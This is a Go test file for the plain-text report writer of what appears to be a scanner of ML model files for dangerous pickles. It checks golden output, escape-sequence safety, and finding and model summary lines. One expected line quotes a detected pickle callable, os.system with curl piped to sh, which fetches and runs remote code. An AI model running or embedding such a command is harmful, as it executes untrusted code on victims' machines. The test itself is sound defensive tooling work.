package text_test

import (
	"bytes"
	"context"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/modelgate/modelgate/core/finding"
	"github.com/modelgate/modelgate/core/report"
	"github.com/modelgate/modelgate/core/report/reporttest"
	"github.com/modelgate/modelgate/core/report/text"
)

var update = flag.Bool("update", false, "rewrite golden files")

// sample builds the report shared by the writer tests from
// core/report/testdata/files.json.
func sample(t *testing.T) *report.Report { return reporttest.Sample(t, "1.2.3", "/repo") }

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (run go test -update to accept):\n%s", path, got)
	}
}

func TestWrite(t *testing.T) {
	pass := sample(t)
	pass.Files = pass.Files[:1] // README.md only
	pass.Summary = report.Summarize(pass.Files)
	pass.ExitCode, pass.Verdict = 0, ""

	tests := []struct {
		name   string
		opts   text.Options
		r      *report.Report
		golden string
	}{
		{"plain", text.Options{}, sample(t), "plain.txt"},
		{"verbose", text.Options{Verbose: true}, sample(t), "verbose.txt"},
		{"color", text.Options{Color: true}, sample(t), "color.txt"},
		{"pass", text.Options{}, pass, "pass.txt"},
		{"empty", text.Options{}, report.Build(nil, report.Options{}), "empty.txt"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := text.New(tt.opts)
			if w.Name() != "text" {
				t.Errorf("Name = %q", w.Name())
			}
			var buf bytes.Buffer
			if err := w.Write(context.Background(), &buf, tt.r); err != nil {
				t.Fatal(err)
			}
			out := buf.String()
			golden(t, tt.golden, buf.Bytes())

			if !tt.opts.Color && strings.Contains(out, "\x1b") {
				t.Error("escape character in uncoloured output")
			}
			if tt.opts.Color {
				// Only our own SGR sequences: ESC always followed by '[' digits 'm'.
				for i := strings.Index(out, "\x1b"); i >= 0; i = strings.Index(out, "\x1b") {
					rest := out[i+1:]
					end := strings.IndexByte(rest, 'm')
					if end < 0 || strings.Trim(rest[:end], "[0123456789;") != "" {
						t.Fatalf("foreign escape sequence at %q", rest[:min(len(rest), 20)])
					}
					out = rest[end:]
				}
			}
		})
	}
}

func TestContent(t *testing.T) {
	var buf bytes.Buffer
	if err := text.New(text.Options{}).Write(context.Background(), &buf, sample(t)); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		"models/evil model.pkl  sha256:9f86d081884c",
		"weights/модель.pt",
		"CRITICAL  MG101  Pickle invokes a dangerous callable when it is loaded",
		"member archive/data.pkl, offset 77",
		"call      os.system('curl https://example.invalid/x | sh')",
		"NOT SCANNED  MG903  archive/secret.bin: member is encrypted (AES)",
		"NOT SCANNED  MG904  Git LFS pointer",
		"[suppressed]",
		"reason    reviewed: our own sklearn pipeline (expires 2026-12-31)",
		`mylib.\x1b[31mThing`,
		"2 files with nothing to report not listed (verbose lists them)",
		"6 findings: 2 critical, 1 high, 2 medium, 1 low; 1 suppressed",
		"FAIL: 3 findings at or above high (fail-on high, exit 1)",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q", want)
		}
	}
	for _, absent := range []string{"clean/model.safetensors", "README.md"} {
		if strings.Contains(out, absent) {
			t.Errorf("non-verbose output lists clean file %s", absent)
		}
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := text.New(text.Options{}).Write(ctx, &bytes.Buffer{}, sample(t)); err == nil {
		t.Error("Write ignored a cancelled context")
	}
}

// TestModelLines: each model directory gets one line saying what it is,
// how many files it has and whether it blocks the gate.
func TestModelLines(t *testing.T) {
	rep := &report.Report{FailOn: finding.SeverityHigh, ExitCode: 1, Verdict: "blocked",
		Files: []finding.FileResult{
			{Path: "models/churn/MLmodel", Status: finding.StatusScanned, Findings: []finding.Finding{{RuleID: "MG1001", Severity: finding.SeverityCritical, Path: "models/churn/MLmodel", Message: "loader_module"}}},
			{Path: "models/churn/model.pkl", Status: finding.StatusScanned},
			{Path: "models/churn/conda.yaml", Status: finding.StatusSkipped},
			{Path: "hf/config.json", Status: finding.StatusScanned},
			{Path: "hf/modeling_x.py", Status: finding.StatusScanned, Findings: []finding.Finding{{RuleID: "MG1005", Severity: finding.SeverityMedium, Path: "hf/modeling_x.py"}}},
		},
		Models: []report.Model{
			{Path: "hf", Kind: "huggingface", Framework: "bert", Files: []string{"hf/config.json", "hf/modeling_x.py"}},
			{Path: "models/churn", Kind: "mlflow", Framework: "sklearn", Files: []string{"models/churn/MLmodel", "models/churn/conda.yaml", "models/churn/model.pkl"}},
		}}
	var buf bytes.Buffer
	if err := text.New(text.Options{}).Write(context.Background(), &buf, rep); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"model `models/churn` (MLflow, sklearn flavor): 3 files, blocked\n",
		"model `hf` (Hugging Face, bert): 2 files, 1 finding below the threshold\n",
	} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("missing %q in:\n%s", want, buf.String())
		}
	}
}
